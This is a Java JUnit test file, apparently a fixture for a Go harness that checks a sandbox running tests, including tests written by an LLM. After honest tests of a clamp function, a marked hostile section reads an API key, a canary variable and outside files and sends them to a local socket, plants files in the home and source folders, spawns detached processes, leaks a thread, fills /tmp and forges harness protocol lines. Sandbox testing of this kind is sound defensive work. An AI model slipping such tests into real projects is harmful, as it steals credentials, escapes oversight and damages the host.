package org.acme;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.File;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Paths;
import org.junit.jupiter.api.Test;

/**
 * Honest tests of PriceCalculator.clamp beside hostile ones (the hostile fixture of
 * cmd/advertest/hostile_test.go, played as the LLM's tests and as a project's own tests). Every
 * hostile test passes whatever it achieves: it tries to escape and says what it got, so that
 * only the sandbox stands between it and the host. @...@ are filled in by the Go test.
 */
public class SandboxEscapeTest {
    @Test
    void clampsAbove() {
        assertEquals(10, PriceCalculator.clamp(11, 0, 10));
    }

    @Test
    void clampsBelow() {
        assertEquals(0, PriceCalculator.clamp(-1, 0, 10));
    }

    @Test
    void keepsInside() {
        assertEquals(7, PriceCalculator.clamp(7, 0, 10));
    }

    @Test
    void keepsTheBounds() {
        assertEquals(10, PriceCalculator.clamp(10, 0, 10));
        assertEquals(0, PriceCalculator.clamp(0, 0, 10));
    }

    @Test
    void rejectsAnEmptyRange() {
        assertThrows(IllegalArgumentException.class, () -> PriceCalculator.clamp(1, 2, 1));
    }

    @Test
    void writesATempFile() throws Exception {
        File f = File.createTempFile("honest", ".bin");
        Files.write(f.toPath(), new byte[1 << 16]);
        assertEquals(1 << 16, f.length());
        assertEquals(7, PriceCalculator.clamp(7, 0, 10));
        f.delete();
    }
    // HOSTILE BEGIN

    /** Reads the API key, a canary variable and a file outside the project, and sends them out. */
    @Test
    void exfiltrates() {
        String loot = "key=" + System.getenv("OPENAI_API_KEY") + " canary=" + System.getenv("@CANARY@")
                + " outside=" + readQuietly("@OUTSIDE@/secret.txt");
        System.out.println(loot);
        sendQuietly(loot);
        writeQuietly("@OUTSIDE@/loot-@MARK@.txt", loot);
    }

    /** Writes outside the project, into the home, into the project's sources and class folder and into /tmp. */
    @Test
    void writesEverywhere() {
        String[] targets = {"@OUTSIDE@/planted-@MARK@.txt", System.getProperty("user.home") + "/planted-@MARK@.txt",
            System.getenv("HOME") + "/planted-@MARK@.txt", "@PROJECT@/src/main/java/org/acme/Planted@MARK@.java",
            "@PROJECT@/target/classes/org/acme/Planted@MARK@.class", "/tmp/planted-@MARK@.txt"};
        for (String t : targets) {
            System.out.println(t + ": " + writeQuietly(t, "planted"));
        }
    }

    /** Starts a sleeper and, through a shell, a detached one that is no child of the JVM. */
    @Test
    void spawnsSleepers() throws Exception {
        new ProcessBuilder("sleep", "@SLEEP@").start();
        new ProcessBuilder("sh", "-c", "setsid sleep @SLEEP@ </dev/null >/dev/null 2>&1 &").start().waitFor();
    }

    /** Leaves a thread blocked for ever. */
    @Test
    void leaksABlockedThread() {
        Object lock = new Object();
        Thread t = new Thread(() -> {
            synchronized (lock) {
                while (true) {
                    try {
                        lock.wait();
                    } catch (InterruptedException e) {
                        // keep blocking
                    }
                }
            }
        }, "hostile-leak");
        t.start();
    }

    /** Fills /tmp (at most 320 MiB: more than the sandbox's 256 MiB). */
    @Test
    void fillsTmp() {
        byte[] chunk = new byte[1 << 20];
        int written = 0;
        try (OutputStream o = new FileOutputStream("/tmp/fill-@MARK@")) {
            for (; written < 320; written++) {
                o.write(chunk);
            }
        } catch (Exception e) {
            System.out.println("filled /tmp after " + written + " MiB: " + e);
        }
    }

    /** Forges protocol lines on stdout, fd 1 and every pipe the JVM holds. */
    @Test
    void forgesProtocolLines() throws Exception {
        String forged = "{\"id\":1,\"done\":true,\"fatal\":\"forged\"}\n";
        for (int i = 0; i < 200; i++) {
            System.out.print(forged);
        }
        OutputStream fd1 = new FileOutputStream(FileDescriptor.out);
        File[] fds = new File("/proc/self/fd").listFiles();
        for (File f : fds == null ? new File[0] : fds) {
            try {
                if (!Files.readSymbolicLink(f.toPath()).toString().startsWith("pipe:")) {
                    continue;
                }
                try (OutputStream o = new FileOutputStream(f)) {
                    for (int i = 0; i < 200; i++) {
                        o.write(forged.getBytes(StandardCharsets.UTF_8));
                    }
                }
            } catch (Exception e) {
                // not writable
            }
        }
        for (int i = 0; i < 200; i++) {
            fd1.write(forged.getBytes(StandardCharsets.UTF_8));
        }
    }

    static String readQuietly(String path) {
        try {
            return new String(Files.readAllBytes(Paths.get(path)), StandardCharsets.UTF_8).trim();
        } catch (Exception e) {
            return "denied " + e;
        }
    }

    static String writeQuietly(String path, String text) {
        try {
            Files.write(Paths.get(path), text.getBytes(StandardCharsets.UTF_8));
            return "wrote";
        } catch (Exception e) {
            return "denied " + e;
        }
    }

    static void sendQuietly(String text) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress("127.0.0.1", @PORT@), 2000);
            s.getOutputStream().write(text.getBytes(StandardCharsets.UTF_8));
            System.out.println("sent");
        } catch (Exception e) {
            System.out.println("not sent: " + e);
        }
    }
    // HOSTILE END
}
